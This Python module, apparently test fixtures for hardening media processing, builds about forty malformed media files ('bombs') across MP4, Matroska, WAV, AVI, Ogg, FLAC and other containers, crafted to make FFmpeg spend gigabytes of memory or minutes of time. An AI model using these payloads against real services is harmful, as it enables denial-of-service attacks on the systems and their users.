"""Headers built by hand that would cost FFmpeg gigabytes or minutes, of every container; `BOMBS` by name, each of a given size."""

from __future__ import annotations

import struct
from collections.abc import Callable


def box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I", 8 + len(body)) + kind + body


def full(kind: bytes, *content: bytes, version: int = 0) -> bytes:
    return box(kind, struct.pack(">I", version << 24), *content)


FTYP = box(b"ftyp", b"isom\0\0\0\0isom")


def table(kind: bytes, entry: bytes, count: int, claimed: int | None = None) -> bytes:
    return full(kind, struct.pack(">I", count if claimed is None else claimed), entry * count)


def trak(samples: int, *extra: bytes, edits: int = 0, handler: bytes = b"vide") -> bytes:
    entry = box(b"mp4v", bytes(6) + b"\0\1" + bytes(16) + struct.pack(">HH", 16, 16) + bytes(50))
    stbl = box(
        b"stbl", full(b"stsd", struct.pack(">I", 1), entry), table(b"stts", struct.pack(">II", samples, 1), 1),
        table(b"stsc", struct.pack(">III", 1, 1, 1), 1), full(b"stsz", struct.pack(">II", 2, samples)),
        table(b"stco", struct.pack(">I", 40), 1), *extra,
    )  # fmt: skip
    mdia = box(
        b"mdia",
        full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 1000, samples, 0, 0)),
        full(b"hdlr", bytes(4) + handler + bytes(13)),
        box(b"minf", stbl),
    )
    edts = box(b"edts", table(b"elst", struct.pack(">IIHH", samples, 0, 1, 0), edits)) if edits else b""
    return box(b"trak", full(b"tkhd", struct.pack(">IIIII", 0, 0, 1, 0, samples) + bytes(60)), edts, mdia)


def mp4(*content: bytes, tail: bytes = b"") -> bytes:
    return (
        FTYP
        + box(b"moov", full(b"mvhd", struct.pack(">IIII", 0, 0, 1000, 1000) + bytes(80)), *content)
        + tail
        + box(b"mdat", bytes(4096))
    )


def tags(kind: bytes, size: int) -> bytes:
    ilst = box(b"ilst", kind * (size // len(kind)))
    return mp4(trak(10), box(b"udta", full(b"meta", full(b"hdlr", b"\0\0\0\0mdir" + bytes(13)), ilst)))


def sidx(size: int) -> bytes:
    one = full(b"sidx", struct.pack(">IIIIHH", 1, 1000, 0, 0, 0, 65_535), struct.pack(">III", 10, 10, 0) * 65_535)
    return one * max(size // len(one), 1)


def element(kind: str, *content: bytes) -> bytes:
    body = b"".join(content)
    return bytes.fromhex(kind) + struct.pack(">Q", len(body) | 1 << 56) + body


TRACK = element(
    "1654AE6B",
    element(
        "AE", element("D7", b"\1"), element("73C5", b"\1"), element("83", b"\2"), element("86", b"A_PCM/INT/LIT"),
        element("E1", element("B5", struct.pack(">f", 8000)), element("9F", b"\1"), element("6264", b"\x10")),
    ),
)  # fmt: skip
CLUSTER = element("1F43B675", element("E7", b"\0"), element("A3", b"\x81\0\0\x80" + bytes(2000)))


def matroska(*content: bytes) -> bytes:
    info = element("1549A966", element("2AD7B1", b"\x0f\x42\x40"))
    return element("1A45DFA3", element("4282", b"matroska")) + element("18538067", info, *content, CLUSTER)


def chunk(kind: bytes, content: bytes) -> bytes:
    return kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


FORMAT = chunk(b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 16_000, 2, 16))
SAMPLES = chunk(b"data", bytes(2000))


def wav(*content: bytes) -> bytes:
    return chunk(b"RIFF", b"WAVE" + FORMAT + b"".join(content) + SAMPLES)


def avi(extra: bytes = b"", index: bytes = b"", movi: bytes = b"") -> bytes:
    strh = struct.pack("<4s4sIHHIIIIIIII4H", b"auds", bytes(4), 0, 0, 0, 0, 1, 8000, 0, 1000, 1000, 0, 2, 0, 0, 0, 0)
    strl = chunk(b"LIST", b"strl" + chunk(b"strh", strh) + FORMAT.replace(b"fmt ", b"strf") + index)
    header = chunk(b"LIST", b"hdrl" + chunk(b"avih", struct.pack("<14I", 0, 0, 0, 16, 0, 0, 1, *[0] * 7)) + strl)
    return chunk(b"RIFF", b"AVI " + header + extra + chunk(b"LIST", b"movi" + movi + chunk(b"00wb", bytes(2000))))


def indexes_of_one(uses: int = 4000, entries: int = 60_000) -> bytes:
    """An index of indexes that names one index of so many entries again and again."""
    ix = chunk(
        b"ix00", struct.pack("<HBBI4sQI", 2, 0, 1, entries, b"00wb", 0, 0) + struct.pack("<II", 4000, 8) * entries
    )

    def built(offset: int) -> bytes:
        entry = struct.pack("<QII", offset, len(ix), entries)
        return avi(
            index=chunk(b"indx", struct.pack("<HBBI4sIII", 4, 0, 0, uses, b"00wb", 0, 0, 0) + entry * uses), movi=ix
        )

    return built(built(0).index(b"ix00"))


def page(packet: bytes, sequence: int, flags: int) -> bytes:
    out, sizes, at = [], [255] * (len(packet) // 255) + [len(packet) % 255], 0
    while sizes:
        now, sizes = sizes[:255], sizes[255:]
        head = b"OggS\0" + struct.pack(
            "<BqIIIB", flags if not at else 1, 0 if not sizes else -1, 1, sequence, 0, len(now)
        )
        out.append(head + bytes(now) + packet[at : at + sum(now)])
        at, sequence = at + sum(now), sequence + 1
    return b"".join(out)


OPUS = b"OpusHead\1\1" + struct.pack("<HIhB", 0, 48_000, 0, 0)
STREAMINFO = struct.pack(">HH", 4096, 4096) + bytes(6) + (44_100 << 44 | 15 << 36).to_bytes(8, "big") + bytes(16)


def comments(size: int) -> bytes:
    count = size // 13
    return struct.pack("<II", 0, count) + b"".join(struct.pack("<I", 9) + b"%07x=x" % place for place in range(count))


def ogg_flac(size: int) -> bytes:
    header = b"\x7fFLAC\1\0\0\1fLaC\0\0\0\x22" + STREAMINFO
    list_ = comments(min(size, 1 << 23))
    return page(header, 0, 2) + page(b"\x84" + len(list_).to_bytes(3, "big") + list_, 1, 0)


def caf(*content: bytes) -> bytes:
    description = struct.pack(">qd4sIIIII", 32, 44_100, b"alac", 0, 0, 4096, 2, 16)
    return b"caff\0\1\0\0desc" + description + b"".join(content) + b"data" + struct.pack(">q", -1) + bytes(4096)


def id3(count: int) -> bytes:
    frames = b"".join(b"TXXX" + struct.pack(">I", 12) + b"\0\0\0%08x\0" % place for place in range(count))
    return b"ID3\3\0\0" + bytes(len(frames) >> shift & 127 for shift in (21, 14, 7, 0)) + frames


ADTS = (bytes([0xFF, 0xF1, 0x50, 0x40, 0x01, 0x7F, 0xFC]) + b"\x21\x10\x04\x60") * 20
LONG = 0x7FFFFF00
NESTED = (b"moov", b"trak", b"mdia", b"minf", b"dinf")

# Each takes the size of the file in bytes; those that need few bytes ignore it.
BOMBS: dict[str, Callable[[int], bytes]] = {
    "mp4, items of HEIF": lambda _: FTYP + full(b"meta", full(b"iinf", struct.pack(">I", 250_000_000), version=1)),
    "mp4, places of HEIF": lambda _: (
        FTYP + full(b"meta", full(b"iloc", b"\x44\0" + struct.pack(">I", 250_000_000), version=2))
    ),
    "mp4, edits": lambda _: mp4(trak(1 << 20, edits=120)),
    "mp4, edits of many tracks": lambda _: mp4(*[trak(1 << 17, edits=40)] * 7),
    "mp4, empty tracks": lambda _: mp4(*[box(b"trak", full(b"stsz", struct.pack(">II", 1, 0)))] * 14_000),
    "mp4, keys": lambda _: mp4(
        trak(10), box(b"meta", full(b"hdlr", b"\0\0\0\0mdta" + bytes(13)), table(b"keys", b"", 0, 400_000_000))
    ),
    "mp4, references": lambda _: (
        FTYP
        + b"".join(struct.pack(">I", LONG - 16 * place) + kind for place, kind in enumerate(NESTED))
        + struct.pack(">I4sII", LONG - 99, b"dref", 0, 100_000_000)
        + bytes(200)
    ),
    "mp4, fragments of many tracks": lambda _: mp4(
        *[trak(1)] * 900, tail=box(b"moof", full(b"mfhd", b"\0\0\0\1")) * 100_000
    ),
    "mp4, an index for many tracks": lambda _: mp4(*[trak(1)] * 900, tail=sidx(0)),
    "mp4, indexes": lambda size: mp4(trak(1), trak(1), tail=sidx(size)),
    "mp4, boxes in moov": lambda size: FTYP + box(b"moov", box(b"abcd") * (size // 8)),
    "mp4, boxes": lambda size: FTYP + box(b"free") * (size // 8),
    "mp4, words": lambda size: FTYP + box(b"moov", b"\0\0\0\x14stsz" * (size // 8)),
    "mp4, times": lambda size: mp4(trak(100, table(b"ctts", struct.pack(">II", 1, 1), size // 8))),
    "mp4, tags": lambda size: tags(box(b"\xa9nam", box(b"data", b"\0\0\0\1\0\0\0\0x")), size),
    "mp4, keys of encryption": lambda size: mp4(trak(10), full(b"pssh", bytes(16), bytes(4)) * (size // 32)),
    "mkv, filling": lambda size: matroska(TRACK, b"\xec\x80" * (size // 2)),
    "mkv, tracks": lambda _: matroska(element("1654AE6B", b"\xae\x80" * (500 << 10))),
    "mkv, attachments": lambda size: matroska(TRACK, element("1941A469", b"\x61\xa7\x80" * (size // 3))),
    "mkv, places": lambda size: matroska(element("114D9B74", b"\x4d\xbb\x80" * (size // 3)), TRACK),
    "mkv, tags": lambda size: matroska(TRACK, element("1254C367", b"\x42\x86\x81\1", b"\x73\x73\x80" * (size // 3))),
    "mkv, chapters": lambda size: matroska(TRACK, element("1043A770", element("45B9", b"\xb6\x80" * (size // 2)))),
    "mkv, cues": lambda size: matroska(TRACK, element("1C53BB6B", b"\xbb\x80" * (size // 2))),
    "mkv, additions": lambda size: matroska(
        TRACK,
        element("1F43B675", element("A0", element("75A1", b"\xa6\x80" * (size // 2)), element("A1", b"\x81\0\0\0"))),
    ),
    "wav, names": lambda size: wav(
        chunk(b"LIST", b"INFO" + b"".join(b"%04x\0\0\0\0" % (at & 0xFFFF) for at in range(size // 8)))
    ),
    "wav, lists": lambda size: wav(chunk(b"LIST", b"INFOIART\1\0\0\0x\0") * (size // 22)),
    "wav, chunks": lambda size: wav(b"abcd\0\0\0\0" * (size // 8)),
    "avi, names": lambda size: avi(chunk(b"LIST", b"INFO" + b"IART\0\0\0\0" * (size // 8))),
    "avi, chunks": lambda size: avi(b"abcd\0\0\0\0" * (size // 8)),
    "avi, indexes of one": lambda _: indexes_of_one(),
    "ogg, pages": lambda size: page(OPUS, 0, 2) + page(b"OpusTags" + bytes(8), 1, 0) + page(b"", 2, 0) * (size // 28),
    "ogg, tags of Opus": lambda size: page(OPUS, 0, 2) + page(b"OpusTags" + comments(size), 1, 0),
    "ogg, tags of FLAC": ogg_flac,
    "flac, blocks": lambda size: b"fLaC\0\0\0\x22" + STREAMINFO + b"\1\0\0\0" * (size // 4),
    "caf, packets": lambda size: caf(b"pakt" + struct.pack(">qqqii", 24 + size, size, size, 0, 0) + b"\1" * size),
    "caf, tags": lambda size: caf(
        b"info"
        + struct.pack(">qI", 4 + size // 9 * 9, size // 9)
        + b"".join(b"%07x\0\0" % at for at in range(size // 9))
    ),
    "tta, frames": lambda _: b"TTA1" + struct.pack("<HHHII", 1, 2, 16, 44_100, 0xFFFFFFFF) + bytes(400_000),
    "adts, tags": lambda size: ADTS + (id3(20_000) + ADTS) * max(size // 440_000, 1),
    "mp3, nothing": lambda size: (b"\xff\xfb\x90\0" + bytes(413)) * 20 + bytes(size),
    "aiff, chunks": lambda size: chunk(b"FORM", b"AIFF" + b"ANNO\0\0\0\2x\0" * (size // 10)),
    "flv, tags": lambda size: b"FLV\1\4\0\0\0\x09\0\0\0\0" + b"\x08\0\0\1\0\0\0\0\0\0\0\x2f\0\0\0\x0c" * (size // 16),
    "ts, nothing": lambda size: (b"\x47\x1f\xff\x10" + bytes(184)) * (size // 188),
    "ps, packets": lambda size: b"\0\0\1\xba\x44\0\4\0\4\1\0\1\xc3\xf8" + b"\0\0\1\xc0\0\3\x80\0\0" * (size // 9),
}
